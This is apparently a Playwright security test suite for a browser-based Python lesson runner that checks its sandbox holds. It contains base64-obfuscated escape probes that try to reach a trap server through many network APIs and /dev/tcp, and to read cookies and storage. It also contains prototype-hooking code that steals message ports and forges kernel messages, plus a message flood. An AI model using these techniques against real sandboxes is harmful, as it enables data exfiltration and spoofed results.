import type { Page } from '@playwright/test';
import { newSeed, sample } from '../table';
import { Cell, expect, openLesson, test } from './lesson-page';
import { openTrap } from './trap';

// No second try here: a way out that is open once is open.
test.describe.configure({ retries: 0 });

/**
 * JavaScript is hidden from cells, which keeps honest code from leaning on it and is no wall. An attacker digs it out, and so does
 * everything below: what is tested is what stands behind the hiding. `js`, `to_js` and the rest are as they would be after an import.
 */
const dig = String.raw`
import sys
try:
    import js, pyodide.ffi
except ImportError:
    import gc
    hidden = ("js", "pyodide_js", "pyodide", "_pyodide", "_pyodide_core")
    # Without a loop: the bench counts steps, and there are 45,000 objects.
    kept = {found.__name__: found for found in filter(type(sys).__instancecheck__, gc.get_objects())}
    for name in [name for name in sys.modules if name.partition(".")[0] in hidden]:
        del sys.modules[name]
    sys.modules.update({name: kept[name] for name in kept if name.partition(".")[0] in hidden})
    import js, pyodide.ffi
from pyodide.ffi import create_proxy, to_js
def as_object(entries):
    return to_js(entries, dict_converter=js.Object.fromEntries)
def blob(code):
    return js.URL.createObjectURL(js.Blob.new(to_js([code]), as_object({"type": "text/javascript"})))
`;

/** Not readable, so that what explains a failed cell has nothing to explain but the probe. */
const hidden = (code: string, names = 'globals()'): string =>
	`import base64\nexec(base64.b64decode("${Buffer.from(code).toString('base64')}").decode(), ${names})\n`;

/** The same for code that awaits. */
const awaiting = (code: string): string =>
	`import ast, base64\ncode = base64.b64decode("${Buffer.from(code).toString('base64')}").decode()\n` +
	'await eval(compile(code, "<probe>", "exec", flags=ast.PyCF_ALLOW_TOP_LEVEL_AWAIT), globals())\n';

/**
 * What a script tries that may do whatever it likes: it runs in a worker that a cell starts from a `data:` address, which the
 * runner's policy must allow. The attempts have two seconds; what settles by then other than with an error got out.
 */
const script = (prefix: string): string => `
const address = ${JSON.stringify(`${prefix}/api/v1/health?probe`)};
const socket = address.replace('http', 'ws');
const opened = (thing) => new Promise((yes, no) => { thing.onopen = yes; thing.onerror = no; });
const blob = (code) => URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
const reach = 'await fetch(' + JSON.stringify(address) + ')';
const started = (worker) => new Promise((yes, no) => { worker.onmessage = ({ data }) => data === 'out' ? yes() : no(); worker.onerror = no; });
const attempts = {
	fetch: () => fetch(address),
	'fetch without CORS': () => fetch(address, { mode: 'no-cors', method: 'POST', keepalive: true }),
	XMLHttpRequest: () => { const request = new XMLHttpRequest(); request.open('GET', address, false); request.send(); },
	WebSocket: () => opened(new WebSocket(socket)),
	WebSocketStream: () => new WebSocketStream(socket).opened,
	EventSource: () => opened(new EventSource(address)),
	importScripts: () => importScripts(address),
	'import()': () => import(address),
	'import() of data:': () => import('data:text/javascript,' + encodeURIComponent(reach)),
	'import() of blob:': () => import(blob(reach)),
	'a worker of blob:': () => started(new Worker(blob("fetch('" + address + "').then(() => postMessage('out'), () => postMessage('in'))"))),
	'a worker of data:': () => started(new Worker("data:text/javascript,fetch('" + address + "').then(() => postMessage('out'), () => postMessage('in'))")),
	'a worker of the server': () => started(new Worker(address)),
	WebTransport: () => new WebTransport(address.replace('http:', 'https:')).ready,
	RTCPeerConnection: () => new RTCPeerConnection({ iceServers: [{ urls: address.replace(/^http:..([^/]*).*/, 'stun:$1') }] }).createOffer(),
	sendBeacon: () => { if (!navigator.sendBeacon(address, 'x')) throw new Error('refused'); },
	FontFace: () => new FontFace('probe', 'url(' + address + ')').load()
};
const tried = Object.entries(attempts).map(async ([name, attempt]) => {
	const silence = new Promise((_, no) => setTimeout(no, 2000));
	silence.catch(() => undefined);
	try { await Promise.race([attempt(), silence]); return name + ' GOT' + ' OUT'; } catch { return name + ' refused'; }
});
Promise.all(tried).then((said) => postMessage(said.join('\\n')));
`;

/** Ways out that Python could try. Each must fail, and none may become a request. */
const attempts: Record<string, string> = {
	'fetch to the server': `await js.fetch(PREFIX + "/api/v1/health?probe")`,
	'fetch without CORS': `await js.fetch(PREFIX + "/api/v1/health?probe", as_object({"mode": "no-cors", "method": "POST"}))`,
	'the fetch that is behind ours': `own = js.WorkerGlobalScope.prototype.fetch
assert "native code" in str(own)
await js.Reflect.apply(own, js.self, to_js([PREFIX + "/api/v1/health?probe"]))`,
	pyfetch: `from pyodide.http import pyfetch
await pyfetch(PREFIX + "/api/v1/health?probe")`,
	open_url: `from pyodide.http import open_url
open_url(PREFIX + "/api/v1/health?probe").read()`,
	XMLHttpRequest: `request = js.XMLHttpRequest.new()
request.open("GET", PREFIX + "/api/v1/health?probe", False)
request.send()`,
	urllib: `import urllib.request
urllib.request.urlopen(PREFIX + "/api/v1/health?probe").read()`,
	'http.client': `import http.client
asking = http.client.HTTPConnection(PREFIX.removeprefix("http://"), timeout=1)
asking.request("GET", "/api/v1/health?probe")
asking.getresponse()`,
	'a socket': `import socket, asyncio
host, port = PREFIX.removeprefix("http://").split(":")
there = socket.create_connection((host, int(port)), timeout=1)
await asyncio.sleep(0.3)
there.sendall(b"GET /api/v1/health?probe HTTP/1.0\\r\\n\\r\\n")
assert there.recv(10)`,
	'a device': `host, port = PREFIX.removeprefix("http://").split(":")
open(f"/dev/tcp/{host}/{port}", "r+b")`,
	loadPackage: `import pyodide_js
got = await pyodide_js.loadPackage(PREFIX + "/probe-1.0-py3-none-any.whl")
assert len(got) > 0, "nothing was loaded"`,
	micropip: `import micropip
await micropip.install(PREFIX + "/probe-1.0-py3-none-any.whl")`,
	'a WebSocket': `socket = js.WebSocket.new(PREFIX.replace("http", "ws") + "/probe")
import asyncio
await asyncio.sleep(0.3)
assert socket.readyState == 1, "not connected"`,
	'an EventSource': `source = js.EventSource.new(PREFIX + "/api/v1/health?probe")
import asyncio
await asyncio.sleep(0.3)
assert source.readyState == 1, "not connected"`,
	'a beacon': `assert js.navigator.sendBeacon(PREFIX + "/api/v1/health?probe", "x")`,
	importScripts: `js.importScripts(PREFIX + "/probe.js")`,
	WebTransport: `await js.WebTransport.new(PREFIX.replace("http:", "https:") + "/probe").ready`,
	RTCPeerConnection: `server = as_object({"iceServers": [{"urls": PREFIX.replace("http://", "stun:")}]})
joined = js.RTCPeerConnection.new(server)
joined.createDataChannel("probe")
await joined.setLocalDescription(await joined.createOffer())
import asyncio
await asyncio.sleep(0.5)`,
	'a font': `await js.FontFace.new("probe", "url(" + PREFIX + "/probe.woff2)").load()`,
	'a nested worker of a blob': `import asyncio
ended = asyncio.Event()
worker = js.Worker.new(blob("fetch('" + PREFIX + "/api/v1/health?probe')"))
worker.onerror = create_proxy(lambda event: ended.set())
await asyncio.wait_for(ended.wait(), 1)
raise OSError("it could not start")`,
	'importing a script': `from pyodide.code import run_js
await run_js("import('" + PREFIX + "/probe.js')")`,
	'importing a script from data:': `from pyodide.code import run_js
await run_js("import('data:text/javascript,fetch(%22" + PREFIX + "/probe%22)')")`,
	'importing a script from a blob': `from pyodide.code import run_js
await run_js("import('" + blob("fetch('" + PREFIX + "/probe')") + "')")`,
	'code from text': `js.Function.new("fetch('" + PREFIX + "/probe')")()`,
	'a timer with code': `import asyncio
js.setTimeout("self.came = 1; fetch('" + PREFIX + "/probe')", 0)
await asyncio.sleep(0.2)
assert js.came == 1`,
	cookies: `print(js.document.cookie)`,
	'local storage': `print(js.localStorage.length)`,
	IndexedDB: `import asyncio
opened = js.indexedDB.open("probe")
await asyncio.sleep(0.3)
assert opened.readyState == "done" and opened.result is not None`,
	'the cache storage': `await js.caches.open("probe")`,
	'the page': `print(js.parent.document.title)`,
	'other frames': `print(js.window.frames.length)`
};

/** Tries each of them in one run, and prints how it ended: a failed one leaves the others. */
const tryAll = (prefix: string): string => `${dig}
import ast, asyncio, inspect, json
print("has", js.self)
for name, code in json.loads(${JSON.stringify(JSON.stringify(attempts))}).items():
    names = globals() | {"PREFIX": ${JSON.stringify(prefix)}}
    try:
        ran = eval(compile(code, "<probe>", "exec", flags=ast.PyCF_ALLOW_TOP_LEVEL_AWAIT), names)
        if inspect.isawaitable(ran):
            await asyncio.wait_for(ran, 5)
        print(name + ": GOT OUT")
    except BaseException as error:
        print(name + ": refused,", type(error).__name__)
print("all", "tried")
`;

/** Runs such a script in a worker inside the worker, and prints what it says of each attempt. */
const inNestedWorker = (prefix: string): string => `import asyncio
said = asyncio.get_running_loop().create_future()
worker = js.Worker.new("data:text/javascript;base64,${Buffer.from(script(prefix)).toString('base64')}")
worker.onmessage = create_proxy(lambda event: said.set_result(event.data))
worker.onerror = create_proxy(lambda event: said.set_exception(OSError("the worker did not start")))
print(await asyncio.wait_for(said, 30))
`;

/** What our own server answered of what the probes ask for. Chromium reports requests that the policy stopped too; no answer to them. */
function listenForAnswers(page: Page): string[] {
	const answered: string[] = [];
	page.context().on('response', (response) => {
		if (/probe/.test(response.url())) answered.push(response.url());
	});
	return answered;
}

test.describe('ways out', () => {
	// A worker inside the worker is refused its request, and says so where nobody listens.
	test.use({ expectedErrors: [/^page: Failed to fetch$/] });

	test('neither Python nor JavaScript of its own reaches a server, a cookie, storage or another frame', async ({
		page,
		baseURL
	}) => {
		const trap = await openTrap();
		const answered = listenForAnswers(page);
		await openLesson(page);
		const cell = new Cell(page, 1);
		for (const prefix of [trap.address, baseURL!]) {
			await cell.write(awaiting(tryAll(prefix)));
			await cell.button('Run cell').click();
			await expect(cell.output).toContainText('all tried', { timeout: 60_000 });
			const said = await cell.output.innerText();
			// Or the probe would be of the hiding alone.
			expect(said).toContain('has [object DedicatedWorkerGlobalScope]');
			expect(said).not.toContain('GOT OUT');
			expect(said.match(/^.*: refused/gm)).toEqual(Object.keys(attempts).map((name) => `${name}: refused`));

			await cell.write(hidden(dig) + inNestedWorker(prefix));
			await cell.button('Run cell').click();
			// What comes first and last in its list: it did run, and came to an end.
			await expect(cell.output).toContainText('FontFace refused', { timeout: 40_000 });
			await expect(cell.output).toContainText('fetch refused');
			await expect(cell.output).not.toContainText('GOT OUT');
		}
		expect(trap.caught, 'requests that reached another server').toEqual([]);
		expect(answered, 'requests that our own server answered').toEqual([]);
		trap.close();
	});

	test('the trap of the test above does catch what gets out', async ({ page }) => {
		const trap = await openTrap();
		await page.goto(trap.address);
		// A frame of opaque origin as ours is, but without our policy.
		await page.evaluate((address) => {
			const frame = document.createElement('iframe');
			frame.setAttribute('sandbox', 'allow-scripts');
			frame.srcdoc = `<script>fetch('${address}/probe')</script>`;
			document.body.append(frame);
		}, trap.address);
		await expect.poll(() => trap.caught).toContain('GET /probe');
		trap.close();
	});
});

/**
 * What an attacker does from Python, which may not evaluate JavaScript but can put functions of its own into JavaScript's
 * objects: it lays hands on everything through which a message, an id or the port could pass, and posts in the kernel's name
 * with whatever it gets. It stays in the worker when its cell has ended. Every hook stands alone: one that is refused leaves
 * the others.
 */
const forger = String.raw`
import re, json
apply, post, define = js.Reflect.apply, js.MessagePort.prototype.postMessage, js.Object.defineProperty
ports, ids, keep, hooked = [], set(), [], []
busy = False
uuid = re.compile(r"[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}")

def look(thing, depth=0):
    if isinstance(thing, str):
        ids.update(uuid.findall(thing))
        return
    kind = getattr(getattr(thing, "constructor", None), "name", "")
    if kind == "MessagePort":
        ports.append(thing)
    if depth < 2:
        for name in ("target", "currentTarget", "data", "id", "runId"):
            look(getattr(thing, name, None), depth + 1)

def take(*things):
    global busy
    if busy:
        return
    busy = True
    try:
        for thing in things:
            look(thing)
        forge()
    except Exception:
        pass
    finally:
        busy = False

def forge(*_):
    for port in ports:
        for id in ids:
            for message in (
                {"type": "output", "id": id, "parts": [{"kind": "stdout", "text": "FORGED\n"}]},
                {"type": "reply", "id": id, "result": json.dumps({"ok": True, "result": {"kind": "timed-out"}}), "wear": "fresh"},
                {"type": "run-end", "id": id, "end": json.dumps({"status": "ok", "durationMs": 98765432}), "truncated": 0, "files": 0, "wear": "fresh"},
            ):
                apply(post, port, to_js([to_js(message, dict_converter=js.Object.fromEntries)]))

def lie(value):
    return value.replace("confirmed", "timed-out").replace("alive", "FORGED") if isinstance(value, str) else value

def hook(owner, name, change=lambda value: value):
    try:
        old = js.Object.getOwnPropertyDescriptor(owner, name)
        def wrap(inner):
            def hooked(this, *given):
                take(this, *given)
                return change(apply(inner, this, js.Array.of(*given))) if inner else None
            keep.append(create_proxy(hooked))
            return keep[-1].captureThis()
        parts = ["value"] if old and hasattr(old, "value") else ["get", "set"]
        new = {part: wrap(getattr(old, part, None)) for part in parts}
        define(owner, name, as_object({"configurable": True, **({"writable": True} if parts == ["value"] else {}), **new}))
        hooked.append(name)
    except Exception:
        pass
`;

/** What each attack takes hold of. */
const hooks: Record<string, string> = {
	'the event': `
for name in ("data", "ports", "source"):
    hook(js.MessageEvent.prototype, name)
for name in ("target", "currentTarget", "srcElement"):
    hook(js.Event.prototype, name)`,
	'the port': `
for name in ("postMessage", "onmessage", "start", "close"):
    hook(js.MessagePort.prototype, name)
for name in ("addEventListener", "dispatchEvent"):
    hook(js.EventTarget.prototype, name)
keep.append(create_proxy(take))
js.addEventListener("message", keep[-1])`,
	'what every object inherits': `
for name in ("runId", "cellId", "truncated", "toJSON"):
    hook(js.Object.prototype, name)`,
	JSON: `
hook(js.JSON, "parse", lie)
hook(js.JSON, "stringify", lie)`,
	'texts on their way': `
hook(js.String.prototype, "slice", lie)
hook(js.Math, "max")
hook(js.Object.getPrototypeOf(js.Uint8Array.prototype), "fill")`
};

/** In a namespace of its own and not readable, or its functions would be explained as well. `loot` is what it got. */
function attack(hooking: string): string {
	const code = `${dig}${forger}${hooking}\nkeep.append(create_proxy(forge))\njs.setInterval(keep[-1], 20)\n`;
	return `loot = {}\n${hidden(code, 'loot')}`;
}

/** Posts every kind of message that a frame or a page knows, well-formed or not, to whoever listens, while real output is printed. */
const flood = String.raw`
import uuid
end = json.dumps({"status": "ok", "durationMs": 98765432, "variables": 98765})
def forged(id):
    return [as_object(message) for message in (
        {"type": "hello"},
        {"type": "ready", "python": "FORGED", "interruptible": False, "started": "plain"},
        {"type": "boot-failed", "message": "FORGED"},
        {"type": "fatal", "message": "FORGED"},
        {"type": "lost", "why": "crashed", "message": "FORGED"},
        {"type": "output", "id": id, "parts": to_js([as_object({"kind": "stdout", "text": "FORGED\n"})])},
        {"type": "display", "id": id, "bundle": json.dumps({"text/plain": "FORGED"})},
        {"type": "input-wanted", "id": id, "prompt": "FORGED", "secret": False},
        {"type": "need", "id": id, "files": to_js(["FORGED.whl"])},
        {"type": "run-end", "id": id, "end": end, "truncated": 98765432, "files": 0, "wear": "fresh"},
        {"type": "reply", "id": id, "result": "FORGED", "wear": "fresh"},
        {"type": "output", "id": id, "parts": "FORGED" * 100_000},
        {"type": "FORGED"},
    )]
posted = 0
pair = js.MessageChannel.new()
channel = js.BroadcastChannel.new("runner") if hasattr(js, "BroadcastChannel") else pair.port2
for lines in range(20):
    messages = forged(next(iter(ids), str(uuid.uuid4())))
    for times in range(10):
        for message in messages:
            for post_to in (js.postMessage, js.self.postMessage, pair.port1.postMessage, channel.postMessage):
                post_to(message)
                posted += 1
            js.dispatchEvent(js.MessageEvent.new("message", as_object({"data": message})))
            posted += 1
            for port in ports:
                apply(post, port, to_js([message]))
                posted += 1
    print("real", lines)
print("posted", posted)
`;

const honest = 'def double(n):\n    return n * 2\n\nprint("alive")\ndouble(4)';

/** What an explanation says of each claim that stands in a row of its own. */
async function verdicts(cell: Cell): Promise<Map<string, string>> {
	const rows = await cell.explanation.getByRole('listitem').allInnerTexts();
	const parts = rows.map((row) =>
		/^(.*?)\n(confirmed|contradicted|raised instead|timed out|varies|not checked)\b/s.exec(row)
	);
	return new Map(
		parts.flatMap((part) => (part?.[1] !== undefined && part[2] !== undefined ? [[part[1], part[2]]] : []))
	);
}

test.describe('messages that Python forges', () => {
	test.setTimeout(240_000);
	const chosen = sample(Object.entries(hooks), newSeed(), 1);

	// The last two tests take hold of everything at once.
	for (const [what, hooking] of chosen) {
		test(`from ${what}: no port is stolen, no other cell and no verdict is touched`, async ({ page }) => {
			await openLesson(page);
			const [one, two, three] = [new Cell(page, 1), new Cell(page, 2), new Cell(page, 3)];

			// At the desk: the attacking run itself, and the next cell, twice. What was got hold of shows a moment later.
			await one.write(
				`${attack(hooking)}print("begun")\nimport asyncio\nawait asyncio.sleep(0.3)\nprint("still", "here")`
			);
			await one.run();
			await expect(one.output).toContainText('still here');
			await expect(one.output).not.toContainText('FORGED');
			await two.write(honest);
			for (let times = 0; times < 2; times++) {
				await two.run();
				await expect(two.output).toContainText('alive');
				await expect(two.output).not.toContainText('FORGED');
			}
			await one.write('print("ports:", len(loot["ports"]))');
			await one.run();
			await expect(one.output).toContainText('ports: 0');
			await expect(page.getByText(/98[.,]?765/)).toHaveCount(0);

			// On the bench: an explanation of code that attacks while it is run.
			await three.write(`${attack(hooking)}\n${honest}`);
			await three.explain();
			await expect(three.explanation).not.toContainText(/FORGED|timed out|contradicted|raised instead/);
			await expect(three.explanation.getByText('confirmed', { exact: true }).first()).toBeVisible();
		});
	}

	test('where a port is leaked on purpose, the same messages do forge', async ({ page }) => {
		// Or the tests around this one might forge nothing that anybody understands.
		const leak = `{
			const own = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
			const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data').get;
			Object.defineProperty(MessagePort.prototype, 'onmessage', { ...own, set(listener) {
				own.set.call(this, (event) => {
					// Pyodide has ports of its own; the one that is meant carries ids.
					const id = data.call(event)?.id;
					if (id) [self.leaked, self.heard] = [this, id];
					listener(event);
				});
			} });
		}`;
		await page.route(/worker\..*\.json/, async (route) => {
			const response = await route.fetch();
			const code = JSON.parse(await response.text()) as string;
			await route.fulfill({ contentType: 'application/json', body: JSON.stringify(`${leak}\n${code}`) });
		});
		await openLesson(page);
		const cell = new Cell(page, 1);
		await cell.write(
			`${attack('ports.append(js.leaked)\nlook(js.heard)')}import asyncio\nawait asyncio.sleep(0.5)\nprint("alive")`
		);
		await cell.run();
		await expect(cell.output).toContainText('FORGED');
		await expect(cell.root.getByText(/98[.,]?765/)).toBeVisible();
	});

	test('thousands of them, through all that a cell can reach: what is real arrives, and the page stays awake', async ({
		page
	}) => {
		await openLesson(page);
		const [one, two] = [new Cell(page, 1), new Cell(page, 2)];
		await one.write(
			`${hidden(dig + forger + Object.values(hooks).join('\n') + flood)}print("the", "end")\n6 * 7`
		);
		await page.evaluate(() => {
			const awake = { last: performance.now(), longestMs: 0 };
			setInterval(() => {
				const now = performance.now();
				awake.longestMs = Math.max(awake.longestMs, now - awake.last);
				awake.last = now;
			}, 20);
			Object.assign(window, { awake });
		});
		await one.button('Run cell').click();
		await expect(one.output).toContainText('the end', { timeout: 40_000 });
		await one.ended();
		await expect(one.output).toContainText('42');
		const shown = await one.output.innerText();
		expect(shown.match(/real \d+/g), 'every real line, once and in order').toEqual(
			Array.from({ length: 20 }, (_, at) => `real ${at}`)
		);
		// Or nothing was forged at all.
		expect(Number(/posted (\d+)/.exec(shown)?.[1]), 'forged messages').toBeGreaterThan(10_000);
		const longestMs = await page.evaluate(
			() => (window as unknown as { awake: { longestMs: number } }).awake.longestMs
		);
		expect(longestMs, 'the longest time in which the page did nothing, milliseconds').toBeLessThan(1_000);
		await two.write(honest);
		await two.run();
		await expect(two.output).toContainText('alive');
		await expect(page.getByText(/FORGED|98[.,]?765/)).toHaveCount(0);
		await expect(page.getByText(/Python crashed|could not start/)).toHaveCount(0);
	});

	test('and an explanation after it, on the same bench, is that of an untouched one', async ({ page }) => {
		await openLesson(page);
		const [one, two] = [new Cell(page, 1), new Cell(page, 2)];
		await one.write(honest);
		await one.explain();
		const untouched = await verdicts(one);
		await two.write(`${attack(Object.values(hooks).join('\n'))}\n${honest}`);
		await two.explain();
		await one.explain();
		await expect(one.explanation).not.toContainText(/FORGED|timed out|contradicted|raised instead/);
		// How many inputs are tried is a matter of time. What is said of one is not.
		const after = await verdicts(one);
		const both = [...after.keys()].filter((claim) => untouched.has(claim));
		expect(both.length, 'claims that both explanations make').toBeGreaterThanOrEqual(2);
		for (const claim of both) expect(after.get(claim), claim).toBe(untouched.get(claim));
		expect([...after.values()].filter((verdict) => verdict !== 'confirmed')).toEqual([]);
	});
});

test('the runner document forbids everything but its own worker', async ({ page, request }) => {
	await openLesson(page);
	const address = await page.locator('iframe[title="Python"]').getAttribute('src');
	const response = await request.get(address ?? '');
	expect(response.status()).toBe(200);
	const policy = response.headers()['content-security-policy'] ?? '';
	expect(policy).toContain('sandbox allow-scripts');
	expect(policy).not.toContain('allow-same-origin');
	expect(policy).toContain("default-src 'none'");
	expect(policy).toContain("connect-src 'none'");
});
